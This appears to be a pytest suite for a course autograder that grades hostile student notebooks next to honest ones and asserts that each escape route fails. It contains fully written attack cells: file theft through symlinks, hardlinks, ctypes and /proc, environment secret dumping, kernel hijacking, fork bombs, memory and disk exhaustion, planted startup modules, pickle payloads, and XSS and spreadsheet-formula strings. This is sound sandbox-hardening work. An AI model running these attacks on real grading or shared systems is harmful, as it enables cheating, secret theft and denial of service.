"""Hostile submissions, graded in one sandboxed batch next to honest ones.

Most attacks use one pattern: the attack cell sets ``STOLEN`` when it worked, and the
student's ``normalize_rows`` is right only then. A score of 0 on that exercise (and
full marks on the other two) proves the route is closed; every honest student's
grade must stay exact and the batch must write its CSV.
"""
import csv
import os
import re
import time
import zipfile

import pytest

from conftest import ROOT
from helpers.instructor.grading import cgroup
from helpers.instructor.grading.grade import main
from toy import SPECS, variant
from helpers.instructor.export.safe import visible

IDS = ["90.1-normalize-rows", "90.2-count-above", "90.3-scaler"]
SOLUTION_NORMALIZE = "    return X / X.sum(axis=1, keepdims=True)\n"
RIGHT_IF_STOLEN = "    if STOLEN:\n        return X / X.sum(axis=1, keepdims=True)\n    return X\n"
SOLUTION_COUNT = "    return int(np.sum(x > threshold))\n"
RIGHT_IF_STOLEN2 = "    if STOLEN2:\n        return int(np.sum(x > threshold))\n    return -1\n"
SECRET = "course-secret-5d1e0a"
MAX_TASKS = 64
CGROUP = cgroup.available()

READ = {  # each: how to read the bytes of path ``p`` (or raise OSError)
    "read-open": "open(p, 'rb').read(100)",
    "read-dirfd": "os.read(os.open(os.path.basename(p), os.O_RDONLY, dir_fd=os.open(os.path.dirname(p), "
                  "os.O_RDONLY | os.O_DIRECTORY)), 100)",
    "read-hardlink": "(os.link(p, f'stolen{i}'), open(f'stolen{i}', 'rb').read(100))[1]",
    "read-symlink": "(os.symlink(p, f'link{i}'), open(f'link{i}', 'rb').read(100))[1]",
    "read-ctypes": "(lambda fd: ctypes.CDLL(None).read(fd, ctypes.create_string_buffer(100), 100) > 0 and b'x' "
                   "if fd >= 0 else b'')(ctypes.CDLL(None).open(p.encode(), 0))",
    "read-proc-root": "b''.join(open(f'/proc/{pid}/root{p}', 'rb').read(100) for pid in os.listdir('/proc') "
                      "if pid.isdigit())",
}
READ_CELL = """import ctypes, os
STOLEN = False
for i, p in enumerate({targets!r} + __import__('glob').glob('/tmp/course-grade-*/in/*.ipynb')):
    try:
        STOLEN = STOLEN or bool({expr})
    except (OSError, ValueError):
        pass
"""
SEARCH_CELL = """import os, re
STOLEN = False
for top, dirs, files in os.walk('/'):
    if top == '/':
        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]
    for f in files:
        path = os.path.join(top, f)
        if re.fullmatch(r'\\d\\d\\.npz|grades\\.csv', f):
            STOLEN = True
        elif f.endswith('.ipynb') and path != '/sandbox/in/submission.ipynb':
            try:
                STOLEN = STOLEN or 'BEGIN SOLUTION' in open(path, errors='ignore').read()
            except OSError:
                pass
"""
PROC_CELL = """import os
STOLEN = False
for pid in os.listdir('/proc'):
    for what in ('cmdline', 'environ'):
        try:
            data = open(f'/proc/{pid}/{what}', 'rb').read()
        except OSError:
            continue
        STOLEN = STOLEN or b'pytest' in data or %r.encode() in data
""" % SECRET
NET_CELL = """import glob, json, os, socket
import ipykernel.connect
own = os.path.realpath(ipykernel.connect.get_connection_file())
found = [f for top in ('/tmp', '/sandbox', '/root', '/home', '/run', '/var')
         for f in glob.glob(top + '/**/kernel-*.json', recursive=True) if os.path.realpath(f) != own]
STOLEN = bool(found)
for f in found:  # zero a classmate's answer through their kernel
    from jupyter_client import BlockingKernelClient
    c = BlockingKernelClient()
    c.load_connection_file(f)
    c.start_channels()
    c.execute('normalize_rows = lambda X: X')
for host in ('10.0.2.2', '172.17.0.1', '192.168.0.1', '8.8.8.8'):
    try:
        socket.create_connection((host, 53), timeout=1).close()
        STOLEN = True
    except OSError:
        pass
"""
SIGNAL_CELL = "import os, signal\nos.kill(-1, signal.SIGKILL)"
DAEMON_CELL = """import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['sh', '-c', 'sleep 30; echo hacked > {out}/grades.csv', 'course-daemon-marker'])
    os._exit(0)
os.wait()
"""
WRITE_CELL = """import os, site, sys
STOLEN = False
for p in [os.path.join(d, 'course_evil.pth') for d in site.getsitepackages()] + [
        {repo!r} + '/helpers/course_evil.py', '/sandbox/pkg/helpers/course_evil.py', '/sandbox/in/course_evil.txt',
        sys.prefix + '/course_evil.txt', '/usr/lib/course_evil.txt', {sol!r} + '/course_evil.txt']:
    try:
        with open(p, 'w') as f:
            f.write('import os')
        STOLEN = True
    except OSError:
        pass
"""
SECRET_CELL = """import os
DUMP = repr(dict(os.environ))
for pid in os.listdir('/proc'):
    try:
        with open(f'/proc/{pid}/environ', 'rb') as f:
            DUMP += f.read().decode(errors='replace')
    except OSError:
        pass
STOLEN = %r in DUMP
""" % SECRET
HOG_CELL = """import os, time
import numpy as np
STOLEN = False
try:
    big = np.ones(3 * 2**30 // 8)
    STOLEN = True
    del big
except MemoryError:
    pass
r, w = os.pipe()
kids = []
for i in range(5):  # each under the per-process limit, together over the total
    pid = os.fork()
    if pid == 0:
        try:
            a = np.ones(400 * 2**20 // 8)
            time.sleep(3)
            os.write(w, b'1')
        finally:
            os._exit(0)
    kids.append(pid)
for k in kids:
    os.waitpid(k, 0)
os.close(w)
STOLEN = STOLEN or (len(os.read(r, 10)) == 5 and %r)
""" % CGROUP
BOMB_CELL = """import os, time
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    n = 0
    try:
        while n < 1000:
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
            n += 1
    except OSError:
        pass
    os.write(w, str(n).encode())
    os._exit(0)
os.waitpid(pid, 0)
STOLEN = int(os.read(r, 20)) >= %d
""" % MAX_TASKS
DISK_CELL = """STOLEN = False
try:
    with open('big.bin', 'wb') as f:
        for i in range(100):
            f.write(b'\\0' * 2**20)
    STOLEN = True
except OSError:
    pass
total = 0
try:
    for i in range(40):
        with open(f'/tmp/fill{i}', 'wb') as f:
            for j in range(32):
                f.write(b'\\0' * 2**20)
                total += 2**20
except OSError:
    pass
STOLEN = STOLEN or total > 600 * 2**20
"""
FORGE = """import io, json, zipfile
import numpy as np
import helpers.harvest as _h

def npy(descr, shape, data=b''):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    header += ' ' * (-(len(header) + 11) % 64) + '\\n'
    return b'\\x93NUMPY\\x01\\x00' + len(header).to_bytes(2, 'little') + header.encode() + data

def structure(obj):
    buffer = io.BytesIO()
    np.save(buffer, np.array(json.dumps(obj)))
    return buffer.getvalue()

def forged(notebook, inputs, out, spec_file=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in MEMBERS():
            z.writestr(name, data)
    open(out, 'wb').write(buffer.getvalue())

_h.harvest = forged
"""
CASE = {"dict": {"cases": {"list": [{"dict": {"out": {"array": "a0", "scalar": False}}}]}}}
MALFORMED = {
    "npz-header": "lambda: [('__structure__.npy', structure({'dict': {%r: %r}})), ('a0.npy', npy('<f8', '(1000000000000,)', b'0' * 64))]"
                  % (IDS[0], CASE),
    "npz-types": "lambda: [('__structure__.npy', structure({'dict': {%r: {'dict': {'cases': {'int': [1]}}}, "
                 "%r: {'list': 'x'}}}))]" % (IDS[0], IDS[1]),
    "npz-object": "lambda: [('__structure__.npy', structure({'dict': {%r: %r}})), ('a0.npy', npy('|O', '(1,)', "
                  "__import__('pickle').dumps(print)))]" % (IDS[0], CASE),
    "zip-bomb": "lambda: [('__structure__.npy', structure({'dict': {%r: %r}})), ('a0.npy', npy('<f8', '(10485760,)', "
                "bytes(80 * 2**20)))]" % (IDS[0], CASE),
}
FLOOD_CELL = """import os
for fd in os.listdir(f'/proc/{os.getppid()}/fd'):
    try:
        if os.readlink(f'/proc/{os.getppid()}/fd/{fd}').startswith('pipe:'):
            w = os.open(f'/proc/{os.getppid()}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
            for i in range(100):
                try:
                    os.write(w, b'x' * 2**20)
                except BlockingIOError:
                    pass
    except OSError:
        pass
"""
# Answer logic inside the sandbox: the instructor tools simulate answers (04.7's mistakes), so they are never staged
TOOLS_CELL = """STOLEN = False
try:
    import helpers.instructor.authoring.mistakes
    STOLEN = True
except ImportError:
    pass
"""
# Modules planted where the worker could import them after the notebook ran (its start folder is the writable work
# dir): every top-level module this kernel has already imported (so the kernel itself keeps the real ones), plus the
# interpreter's start-up hooks. Run inside the worker, one would forge the run report and end the worker.
PLANT_CELL = """import json, os, sys
body = json.dumps({"errors": [], "timeouts": [], "died": [], "stderr": [], "output_dropped": False,
                   "harvested": False, "harvest_error": "PLANTED-IN-WORKER"}).encode()
payload = (
    "import os, sys\\n"
    "if 'ipykernel' not in sys.modules:\\n"
    "    msg = b'COURSE-RESULTS-1\\\\n' + (%d).to_bytes(8, 'big') + %r\\n"
    "    for fd in range(3, 256):\\n"
    "        try:\\n"
    "            os.write(fd, msg)\\n"
    "        except OSError:\\n"
    "            pass\\n"
    "    os._exit(0)\\n") % (len(body), body)
names = {n for n in sys.modules if '.' not in n and not n.startswith('_')} | {'sitecustomize', 'usercustomize'}
for folder in {os.getcwd(), os.path.expanduser('~'), '/tmp'}:
    for n in names:
        try:
            with open(os.path.join(folder, n + '.py'), 'w') as f:
                f.write(payload)
        except OSError:
            pass
"""
# A notebook that hides its own errors from what it prints: no traceback shown, stderr thrown away.
HIDE_CELL = """import os, sys
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
sys.stderr = open(os.devnull, 'w')
"""
# Names and messages that are markup, formulas, terminal escapes or not UTF-8 at all (unzip's Latin-1 names)
ODD_NAMES = [os.fsdecode(b"jos\xe9-latin1"), "esc\x1b[31mred\x1b]0;title\x07", "<img src=x onerror=alert(1)>"]
MARKUP = "<script>alert(1)</script> [win](javascript:alert(1)) =cmd|' /C calc'!A0\\n- \u2714 **90.2-count-above** (1/1)"
# A kernelspec of the student's: if the worker read it when it restarts a dead kernel, the new kernel would run
# with the student's command and environment
SPEC_CELL = """import json, os, sys
STOLEN = os.environ.get('PLANTED_SPEC') == '1'
spec = {'argv': [sys.executable, '-m', 'ipykernel_launcher', '-f', '{connection_file}'], 'display_name': 'p',
        'language': 'python', 'env': {'PLANTED_SPEC': '1'}}
for top in {os.environ.get('JUPYTER_DATA_DIR', ''), '/tmp/.jupyter-data', os.path.expanduser('~/.local/share/jupyter')}:
    try:
        os.makedirs(os.path.join(top, 'kernels', 'python3'), exist_ok=True)
        with open(os.path.join(top, 'kernels', 'python3', 'kernel.json'), 'w') as f:
            json.dump(spec, f)
    except OSError:
        pass
"""
# two attacks per submission (to keep the batch short): the first gates exercise 1, the second exercise 2
PAIRS = [("read-open", "read-dirfd"), ("read-hardlink", "read-symlink"), ("read-ctypes", "read-proc-root"),
         ("search-filesystem", "proc-grader"), ("network", "write-environment"), ("fork-bomb", "disk-fill"),
         ("memory-hog", "instructor-tools")]
STOLEN_CASES = [f"{a}+{b}" if b else a for a, b in PAIRS]


@pytest.fixture(scope="module")
def batch(toy_course, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    subs, out = root / "submissions", root / "out"
    sol = (toy_course["solutions"] / "90_toy.ipynb").read_text()
    targets = [str(toy_course["solutions"] / "90_toy.ipynb"), str(toy_course["checkdata"] / "90.npz"),
               str(ROOT / "helpers" / "checkdata" / "03.npz"), str(ROOT / "solutions" / "03_linear_regression.ipynb"),
               str(subs / "honest-1" / "90_toy.ipynb"), str(ROOT / "README.md")]

    attacks = {name: READ_CELL.format(targets=targets, expr=expr) for name, expr in READ.items()}
    attacks.update({"search-filesystem": SEARCH_CELL, "proc-grader": PROC_CELL, "network": NET_CELL,
                    "write-environment": WRITE_CELL.format(repo=str(ROOT), sol=str(toy_course["solutions"])),
                    "memory-hog": HOG_CELL, "fork-bomb": BOMB_CELL, "disk-fill": DISK_CELL, "instructor-tools": TOOLS_CELL})
    cases = {"honest-1": sol, "honest-2": sol}
    for a, b in PAIRS:
        if b is None:
            cases[a] = variant(sol, (SOLUTION_NORMALIZE, RIGHT_IF_STOLEN), extra_cells=[(2, attacks[a])])
        else:
            cases[f"{a}+{b}"] = variant(sol, (SOLUTION_NORMALIZE, RIGHT_IF_STOLEN), (SOLUTION_COUNT, RIGHT_IF_STOLEN2),
                                        extra_cells=[(2, attacks[a]), (3, attacks[b].replace("STOLEN", "STOLEN2"))])
    cases.update({
        "instructor-secret": variant(sol, (SOLUTION_NORMALIZE, RIGHT_IF_STOLEN),
                                     ("    return int(np.sum(x > threshold))\n", "    raise ValueError(DUMP)\n"),
                                     extra_cells=[(2, SECRET_CELL)]),
        "signals": variant(sol, extra_cells=[(2, SIGNAL_CELL)]),
        "daemon": variant(sol, extra_cells=[(2, DAEMON_CELL.format(out=out))]),
        "zero-stride": variant(sol, (SOLUTION_NORMALIZE, "    return np.broadcast_to(X[:1], (10**8, X.shape[1]))\n")),
        "channel-flood": variant(sol, extra_cells=[(2, FLOOD_CELL)]),
        "plant-worker-modules": variant(sol, extra_cells=[(99, PLANT_CELL)]),
        "kernelspec": variant(sol, (SOLUTION_NORMALIZE, RIGHT_IF_STOLEN),
                              extra_cells=[(2, SPEC_CELL), (3, "import os\nif not STOLEN:\n    os._exit(9)")]),
        "markup-message": variant(sol, (SOLUTION_COUNT, f"    raise ValueError({MARKUP!r})\n")),
        **{name: sol for name in ODD_NAMES},
        "hide-errors": variant(sol, extra_cells=[(2, HIDE_CELL), (3, "raise RuntimeError('hidden from the grader')")]),
    })
    cases.update({name: variant(sol, extra_cells=[(99, FORGE + f"MEMBERS = {members}\n")])
                  for name, members in MALFORMED.items()})
    for name, text in cases.items():
        (subs / name).mkdir(parents=True)
        (subs / name / "90_toy.ipynb").write_text(text)
    start = time.monotonic()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("COURSE_CHECKDATA", str(toy_course["checkdata"]))
        mp.setenv("COURSE_TEST_SECRET", SECRET)
        code = main([str(subs), "--solutions", str(toy_course["solutions"]), "--specs", SPECS, "--out", str(out),
                     "--jobs", "2", "--cell-timeout", "20", "--timeout", "120", "--seed", "5", "--memory", "1536M",
                     "--max-tasks", str(MAX_TASKS), "--max-file-size", "64M"])
    seconds = time.monotonic() - start
    csv_text = (out / "grades.csv").read_text()
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    return {"code": code, "rows": rows, "out": out, "csv": csv_text, "seconds": seconds, "cases": cases}


def scores(row):
    return [float(row[i]) for i in IDS]


def test_batch_completes_and_grades_everyone(batch):
    assert batch["code"] == 0
    assert set(batch["rows"]) == {visible(name) for name in batch["cases"]}


def test_odd_names_are_graded_and_shown_inert(batch):
    """A Latin-1 folder name, terminal escapes and markup in names: graded like anyone, shown as text."""
    for name in ODD_NAMES:
        assert scores(batch["rows"][visible(name)]) == [1, 1, 1], name
    assert "\\xe9" in batch["csv"] and "\x1b" not in batch["csv"]


def test_student_text_is_inert_in_every_output(batch):
    """Markup, links, formulas and fake verdict lines from a student's exception stay plain text."""
    assert scores(batch["rows"]["markup-message"]) == [1, 0, 1]
    texts = {"grades.csv": batch["csv"]}
    texts.update({p.name: p.read_text(encoding="utf-8") for p in (batch["out"] / "feedback").iterdir()})
    for name, text in texts.items():  # a CSV is text for a spreadsheet: markup is harmless there, formulas are not
        assert "\x1b" not in text, name
        if name.endswith(".md"):  # Markdown: no tag or link can form (each < and [ comes escaped)
            assert not re.search(r"(?<!\\)<(script|img)|(?<!\\)\]\(javascript", text), name
        if name.endswith(".html"):  # HTML: no tag can form (each < is an entity); a Markdown link is plain text there
            assert not re.search(r"<(script|img|a)\b", text, re.IGNORECASE), name
    assert not any(line.startswith(("=", "'=cmd")) for line in batch["csv"].splitlines())
    feedback = next(t for n, t in texts.items() if n.startswith("markup-message") and n.endswith(".md"))
    assert "\\<script\\>" in feedback  # shown, escaped, not dropped
    page = next(t for n, t in texts.items() if n.startswith("markup-message") and n.endswith(".html"))
    assert "&lt;script&gt;" in page and "<script" not in page  # the HTML page: shown as text, never a tag
    assert not any(line.startswith("- \u2714 **90.2") for line in feedback.splitlines()), "a forged verdict line"


@pytest.mark.parametrize("student", ["honest-1", "honest-2", "daemon"])
def test_honest_work_keeps_full_marks(batch, student):
    assert scores(batch["rows"][student]) == [1, 1, 1], batch["rows"][student]


@pytest.mark.parametrize("student", STOLEN_CASES)
def test_route_is_closed(batch, student):
    expected = [0, 0, 1] if "+" in student else [0, 1, 1]
    assert scores(batch["rows"][student]) == expected, batch["rows"][student]


@pytest.mark.parametrize("student, expected, status", [
    ("instructor-secret", [0, 0, 1], "ok"),
    ("signals", [0, 0, 0], "no results"),
    ("zero-stride", [0, 1, 1], "ok"),
    ("channel-flood", [1, 1, 1], "PermissionError"),
    ("npz-header", [0, 0, 0], "over the limit"),
    ("npz-types", [0, 0, 0], "results unreadable"),
    ("npz-object", [0, 0, 0], "not allowed"),
    ("zip-bomb", [0, 0, 0], "more than the limit"),
    ("hide-errors", [1, 1, 1], "RuntimeError"),
    ("kernelspec", [0, 1, 1], "kernel died"),  # restarted from the course's kernelspec, never the student's
])
def test_self_sabotage_and_malformed_results_cost_only_their_author(batch, student, expected, status):
    row = batch["rows"][student]
    assert scores(row) == expected and status in row["status"], row


def test_modules_planted_for_the_worker_never_run_in_it(batch):
    """The worker imports nothing the student can write: its report is its own, and the honest answers count."""
    row = batch["rows"]["plant-worker-modules"]
    assert scores(row) == [1, 1, 1] and "PLANTED" not in row["status"], row


def test_no_instructor_variable_reaches_any_output(batch):
    texts = [batch["csv"]] + [p.read_text(encoding="utf-8") for p in (batch["out"] / "feedback").iterdir()]
    zips = list((batch["out"] / "feedback-zips").glob("*.zip"))
    assert len(zips) == len(batch["rows"])
    for path in zips:  # what a student is sent: every member of their zip
        with zipfile.ZipFile(path) as archive:
            texts += [archive.read(n).decode("utf-8") for n in archive.namelist()]
    assert all(SECRET not in t for t in texts)


def test_nothing_was_written_outside(batch, toy_course):
    import site
    planted = [ROOT / "helpers" / "course_evil.py", toy_course["solutions"] / "course_evil.txt",
               *(os.path.join(d, "course_evil.pth") for d in site.getsitepackages())]
    assert not [p for p in planted if os.path.exists(p)]


def test_no_process_outlives_grading_and_the_csv_stays(batch):
    time.sleep(2)
    alive = []
    for pid in os.listdir("/proc"):
        try:
            if b"course-daemon-marker" in open(f"/proc/{pid}/cmdline", "rb").read():
                alive.append(pid)
        except OSError:
            pass
    assert alive == []
    assert (batch["out"] / "grades.csv").read_text() == batch["csv"]
